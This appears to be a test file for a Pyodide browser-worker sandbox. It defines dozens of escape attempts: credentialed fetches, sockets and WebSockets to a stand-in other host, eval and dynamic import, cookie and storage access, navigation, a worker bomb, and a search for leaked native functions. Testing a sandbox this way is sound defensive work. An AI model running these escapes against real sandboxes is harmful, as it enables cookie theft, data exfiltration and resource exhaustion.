"""Reaches for everything that readers' code must not have: each attack prints what it got, or why it got nothing.

`SITE` and `OTHER` are replaced by the addresses of the site and of another host. Where a test has hidden in
`Array.prototype.loot` what a worker has before the lockdown, the attacks use that: then only the frame is in their way.
"""

import _socket
import asyncio
import inspect
import urllib.request
from collections.abc import Callable
from typing import Any

import js
import pyodide_js
from pyodide.code import run_js
from pyodide.ffi import JsProxy, create_proxy, run_sync, to_js
from pyodide.http import open_url, pyfetch

import litwork as L

SITE = "http://site.invalid/"
OTHER = "http://other.invalid/"

LIMIT = 5
"""Seconds that an attack may take."""

ATTACKS: list[Callable[[], Any]] = []

loot = getattr(js.Array.prototype, "loot", js)


def attack(function: Callable[[], Any]) -> Callable[[], Any]:
    ATTACKS.append(function)
    return function


def prize() -> str:
    """An address of the site that names the attack which asks for it."""
    return f"{SITE}prize?{inspect.stack()[1].function}"


def elsewhere(scheme: str = "http") -> str:
    """The same on the other host."""
    return OTHER.replace("http", scheme, 1) + f"prize?{inspect.stack()[1].function}"


def host() -> Any:
    """What Python sees of the browser: the machine that runs this code holds it."""
    return next(each.frame.f_locals["self"]._host for each in inspect.stack() if each.function == "turn")


def blob(script: str) -> str:
    """The address of a script made here."""
    return str(loot.URL.createObjectURL(loot.Blob.new(to_js([script]))))


async def opened(source: Any) -> str:
    """Waits until a connection is open."""
    done = asyncio.get_event_loop().create_future()

    def settle(event: Any) -> None:
        if not done.done():
            done.set_result(str(event.type))

    for name in ("open", "error", "close", "success", "message"):
        setattr(source, f"on{name}", create_proxy(settle))
    name = await done
    if name in ("error", "close"):
        raise ConnectionError(name)
    return str(name)


# ── the site and its cookies ─────────────────────────────────────────────────────────────────────────────────────────


@attack
def fetch() -> Any:
    return loot.fetch(prize(), to_js({"credentials": "include"}, dict_converter=js.Object.fromEntries))


@attack
def synchronous_request() -> Any:
    request = loot.XMLHttpRequest.new()
    request.open("GET", prize(), False)
    request.send()
    return request.responseText


@attack
def open_url_of_pyodide() -> Any:
    return open_url(prize()).read()


@attack
def pyfetch_of_pyodide() -> Any:
    return pyfetch(prize())


@attack
def package_of_pyodide() -> Any:
    # It says what went wrong only in passing.
    said: list[str] = []
    report = create_proxy(lambda text: said.append(text))
    options = to_js({"errorCallback": report}, dict_converter=js.Object.fromEntries)
    loaded = run_sync(pyodide_js.loadPackage(f"{prize()}&file=prize-1.0-py3-none-any.whl", options))
    if len(loaded) == 0:
        raise LookupError(" ".join(said).replace(chr(10), " "))
    return loaded


@attack
def urlopen() -> Any:
    return urllib.request.urlopen(prize(), timeout=LIMIT).read()


@attack
def import_scripts() -> Any:
    return loot.importScripts(prize())


@attack
def another_pyodide() -> Any:
    return loot.loadPyodide(to_js({"indexURL": prize()}, dict_converter=js.Object.fromEntries))


@attack
def streaming_webassembly() -> Any:
    return loot.compileStreaming(loot.fetch(prize()))


# ── other hosts ──────────────────────────────────────────────────────────────────────────────────────────────────────


@attack
def fetch_elsewhere() -> Any:
    return loot.fetch(elsewhere(), to_js({"mode": "no-cors"}, dict_converter=js.Object.fromEntries))


@attack
def web_socket() -> Any:
    return opened(loot.WebSocket.new(elsewhere("ws")))


@attack
def web_socket_stream() -> Any:
    return loot.WebSocketStream.new(elsewhere("ws")).opened


@attack
def socket_of_python() -> Any:
    host, _, port = OTHER.removeprefix("http://").rstrip("/").partition(":")
    below = _socket.socket()  # the module `socket` refuses everything by itself
    below.settimeout(LIMIT)
    below.connect((host, int(port)))
    return below.send(b"GET /prize?socket HTTP/1.0\r\n\r\n")


@attack
def event_source() -> Any:
    return opened(loot.EventSource.new(elsewhere()))


@attack
def web_transport() -> Any:
    return loot.WebTransport.new(elsewhere("https")).ready


@attack
def font_face() -> Any:
    return loot.FontFace.new("Prize", f"url({elsewhere()})").load()


@attack
def peer_connection() -> Any:
    return loot.RTCPeerConnection.new(js.JSON.parse('{"iceServers": [{"urls": "stun:127.0.0.1"}]}'))


@attack
def beacon() -> Any:
    return loot.navigator.sendBeacon(elsewhere(), "prize")


# ── code that no policy has seen ─────────────────────────────────────────────────────────────────────────────────────


@attack
def dynamic_import() -> Any:
    return run_js(f"import('{prize()}')")


@attack
def evaluate() -> Any:
    return js.eval("1 + 1")


@attack
def function_of_text() -> Any:
    return js.Function.new("return 1 + 1")()


@attack
def asynchronous_function_of_text() -> Any:
    return js.Object.getPrototypeOf(pyodide_js.runPythonAsync).constructor.new("return 1 + 1")()


@attack
def constructor_of_a_constructor() -> Any:
    return js.Reflect.construct(js.Map.constructor, to_js(["return 1 + 1"]))()


@attack
def timer_of_text() -> Any:
    js.setTimeout("globalThis.prize = 1", 0)
    run_sync(asyncio.sleep(0.1))
    return js.prize


# ── stores ───────────────────────────────────────────────────────────────────────────────────────────────────────────


@attack
def indexed_db() -> Any:
    return opened(loot.indexedDB.open("prize"))


@attack
def cache_storage() -> Any:
    return loot.caches.open("litdocs")


@attack
def private_files() -> Any:
    return loot.navigator.storage.getDirectory()


@attack
def old_files() -> Any:
    return loot.webkitRequestFileSystemSync(0, 1024)


@attack
def local_storage() -> Any:
    return loot.localStorage.setItem("prize", "1")


@attack
def cookies() -> Any:
    return loot.document.cookie


@attack
def cookie_store() -> Any:
    return loot.cookieStore.set("prize", "1")


@attack
def service_worker() -> Any:
    return loot.navigator.serviceWorker.register(prize())


# ── the page, other runs and other threads ───────────────────────────────────────────────────────────────────────────


@attack
def broadcast() -> Any:
    return loot.BroadcastChannel.new("prize").postMessage("prize")


@attack
def worker_bomb() -> Any:
    return [loot.Worker.new(blob("setInterval(() => 0, 1000)")) for _ in range(20)]


@attack
def worker_of_the_site() -> Any:
    return loot.SharedWorker.new(prize())


@attack
def popup() -> Any:
    return loot.open(prize())


@attack
def top_navigation() -> Any:
    loot.top.location.href = prize()


@attack
def own_navigation() -> Any:
    loot.location.href = prize()
    return loot.location.assign(prize())


@attack
def message_to_the_frame() -> Any:
    return loot.postMessage(js.JSON.parse('{"type": "ready"}'))


@attack
def notification() -> Any:
    return loot.Notification.requestPermission()


@attack
def end_without_a_word() -> Any:
    return loot.close


# ── what was taken ───────────────────────────────────────────────────────────────────────────────────────────────────

TAKEN = {
    *("fetch", "Request", "XMLHttpRequest", "WebSocket", "WebSocketStream", "WebTransport", "EventSource", "FontFace"),
    *("RTCPeerConnection", "sendBeacon", "importScripts", "compileStreaming", "instantiateStreaming", "PushManager"),
    *("CacheStorage", "IDBFactory", "StorageManager", "getDirectory", "webkitRequestFileSystem", "FileReaderSync"),
    *("BroadcastChannel", "Worker", "SharedWorker", "WorkerNavigator", "Blob", "URL", "createObjectURL"),
    *("Notification", "OffscreenCanvas"),
}

MOST = 50_000
"""Things that are searched; there are fewer."""


def parts(thing: Any) -> list[Any]:
    """What one step leads to: the prototype, and all that the thing has or inherits, getters asked."""
    if js.ArrayBuffer.isView(thing):
        return [js.Object.getPrototypeOf(thing)]
    scope, found = thing, []
    while is_thing(scope):
        found.append(scope)
        for name in js.Reflect.ownKeys(scope):
            try:
                found.append(js.Reflect.get(thing, name))
            except Exception:
                continue  # some properties can't be read, such as `caller`
        scope = js.Object.getPrototypeOf(scope)
    return found


def is_thing(value: Any) -> bool:
    """Whether a value can have properties."""
    return isinstance(value, JsProxy) and value.typeof in ("object", "function")


@attack
def search() -> Any:
    """Follows every property, prototype, constructor and getter of whatever the browser offers here.

    Pyodide's own objects are left out: some of their getters end Python.
    """
    ahead = [js.globalThis, host().port, js.Error.new("here"), pyodide_js.runPythonAsync]
    ahead += [js.MessageChannel.new(), js.Map.new().entries(), js.String.new("").matchAll(js.RegExp.new(".", "g"))]
    seen = js.Set.new()
    natives = set()
    while ahead and seen.size < MOST:
        thing = ahead.pop()
        if seen.has(thing):
            continue
        seen.add(thing)
        if thing.typeof == "function" and "[native code]" in str(js.Function.prototype.toString.call(thing)):
            natives.add(str(thing.name))
        ahead += [part for part in parts(thing) if is_thing(part)]
    if natives & TAKEN:
        return sorted(natives & TAKEN)
    missed = {"MessageChannel", "setTimeout", "getRandomValues", "postMessage"} - natives
    raise LookupError(f"nothing in {seen.size} things, missed {sorted(missed)}")


class Attacker(L.LightningWork):
    def run(self) -> None:
        for attempt in ATTACKS:
            try:
                got = attempt()
                if inspect.isawaitable(got):
                    got = run_sync(asyncio.wait_for(settled(got), LIMIT))
            except BaseException as error:
                print(f"{attempt.__name__}: failed: {type(error).__name__}: {str(error).split(chr(10))[0]}")
            else:
                print(f"{attempt.__name__}: got {got!r}")


async def settled(promise: Any) -> Any:
    return await promise


class Root(L.LightningFlow):
    def __init__(self) -> None:
        super().__init__()
        self.attacker = Attacker()

    def run(self) -> None:
        self.attacker.run()


app = L.LightningApp(Root())
